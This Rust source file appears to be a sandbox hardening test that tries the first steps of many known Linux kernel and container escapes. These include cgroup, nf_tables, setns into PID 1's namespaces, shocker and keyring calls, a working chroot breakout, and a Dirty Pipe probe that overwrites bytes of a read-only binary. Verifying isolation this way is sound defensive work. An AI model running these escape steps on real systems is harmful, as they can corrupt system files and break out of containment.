//! Row 59: the first steps of known ways out. Each way needs its first step, so that it ends there.

use std::fs::{self, File, OpenOptions};
use std::io::{Read as _, Write as _};
use std::os::fd::AsRawFd as _;

use crate::kernel::{Outcome, attempt, call, pointer, pointer_mut, say, text};
use crate::sockets::{netlink, socket};

/// The argument is a file of the image that the task's root may read and not write to; without it the shell is taken.
pub(crate) fn escapes(arguments: &[&str]) {
    attempt("CVE-2022-0492: unshare user and cgroup", || {
        call(libc::SYS_unshare, &[(libc::CLONE_NEWUSER | libc::CLONE_NEWCGROUP) as usize])
    });
    attempt("CVE-2022-0492: mount cgroup", || {
        call(libc::SYS_mount, &[text(c"none"), text(c"/tmp"), text(c"cgroup"), 0, text(c"memory")])
    });
    attempt("CVE-2022-0185: fsopen", || call(libc::SYS_fsopen, &[text(c"ext4"), 0]));
    attempt("CVE-2022-0185: fsconfig", || {
        call(libc::SYS_fsconfig, &[usize::MAX, 1, text(c"x"), text(c"AAAAAAAA"), 0])
    });
    attempt("CVE-2024-1086: unshare user and network", || {
        call(libc::SYS_unshare, &[(libc::CLONE_NEWUSER | libc::CLONE_NEWNET) as usize])
    });
    attempt("CVE-2024-1086: nf_tables", || netlink(libc::NETLINK_NETFILTER, 10 << 8, &[2, 0, 0, 0]));
    attempt("CVE-2024-1086: clone3 user", || {
        let mut arguments = [0u64; 8];
        arguments[0] = libc::CLONE_NEWUSER as u64;
        arguments[4] = libc::SIGCHLD as u64;
        call(libc::SYS_clone3, &[pointer(&arguments), size_of_val(&arguments)])
    });
    attempt("CVE-2026-31431: AF_ALG", || socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0));
    attempt("CVE-2016-0728: join_session_keyring", || call(libc::SYS_keyctl, &[1, text(c"intruder")]));
    attempt("CVE-2021-4154: fsconfig of cgroup", || call(libc::SYS_fsopen, &[text(c"cgroup"), 0]));
    attempt("CVE-2022-2588: route classifier", || netlink(libc::NETLINK_ROUTE, 44, &[0; 20]));
    attempt("CVE-2023-2598: io_uring_setup", || call(libc::SYS_io_uring_setup, &[1, usize::MAX]));
    attempt("CVE-2022-23222: bpf", || call(libc::SYS_bpf, &[0, usize::MAX, 0]));
    attempt("shocker: open_by_handle_at", || call(libc::SYS_open_by_handle_at, &[3, usize::MAX, 0]));
    attempt("userfaultfd", || call(libc::SYS_userfaultfd, &[0]));
    for kind in ["cgroup", "ipc", "mnt", "net", "pid", "user", "uts"] {
        attempt(&format!("setns {kind}"), || {
            let namespace = File::open(format!("/proc/1/ns/{kind}"))
                .map_err(|error| error.raw_os_error().unwrap_or(0))?;
            call(libc::SYS_setns, &[namespace.as_raw_fd() as usize, 0])
        });
    }
    attempt("chroot and out by ..", chroot_and_out);
    let victim = arguments.first().copied().unwrap_or("/bin/busybox");
    say("CVE-2022-0847: dirty pipe", dirty_pipe(victim));
    attempt("write to the program that runs", || {
        let opened = OpenOptions::new().append(true).open("/proc/self/exe");
        opened.map(|_| 0).map_err(|error| error.raw_os_error().unwrap_or(0))
    });
}

/// The classic of who may `chroot(2)`: a working directory above the new root. It reaches the task's own root, whose
/// identity says whether that is where it ends.
fn chroot_and_out() -> Outcome {
    let error_of = |error: std::io::Error| error.raw_os_error().unwrap_or(0);
    let identity = |path: &str| {
        use std::os::unix::fs::MetadataExt as _;
        fs::metadata(path).map(|meta| (meta.dev(), meta.ino())).map_err(error_of)
    };
    let before = identity("/")?;
    fs::create_dir_all("/tmp/jail").map_err(error_of)?;
    call(libc::SYS_chroot, &[text(c"/tmp/jail")])?;
    for _ in 0..64 {
        call(libc::SYS_chdir, &[text(c"..")])?;
    }
    call(libc::SYS_chroot, &[text(c".")])?;
    // To reach the task's root is no escape, and nothing else may be there.
    if identity("/")? == before { Err(libc::EXDEV) } else { Ok(0) }
}

/// Splices a byte of a file into a pipe whose buffers were all used before, and writes over it. Where the kernel has the
/// flaw the file's page in memory changes, though it was opened for reading.
fn dirty_pipe(path: &str) -> String {
    let prepare = || -> std::io::Result<(u8, u8)> {
        let mut byte = [0];
        File::open(path)?.read_exact(&mut byte)?;
        let (mut reader, mut writer) = std::io::pipe()?;
        let filled = [0; 65_536];
        writer.write_all(&filled)?;
        reader.read_exact(&mut vec![0; filled.len()])?;
        let file = File::open(path)?;
        let mut offset = 0i64;
        let spliced = call(
            libc::SYS_splice,
            &[file.as_raw_fd() as usize, pointer_mut(&mut offset), writer.as_raw_fd() as usize, 0, 1, 0],
        );
        spliced.map_err(std::io::Error::from_raw_os_error)?;
        // The byte of the file is in the pipe; what follows must go to a page of its own, not beside it.
        writer.write_all(b"intruder")?;
        let mut start = [0; 9];
        File::open(path)?.read_exact(&mut start)?;
        let is_changed = &start[1..] == b"intruder";
        Ok((byte[0], if is_changed { b'!' } else { start[0] }))
    };
    match prepare() {
        Ok((before, after)) if before == after => "unchanged".to_owned(),
        Ok(_) => "changed".to_owned(),
        Err(error) => error.to_string(),
    }
}
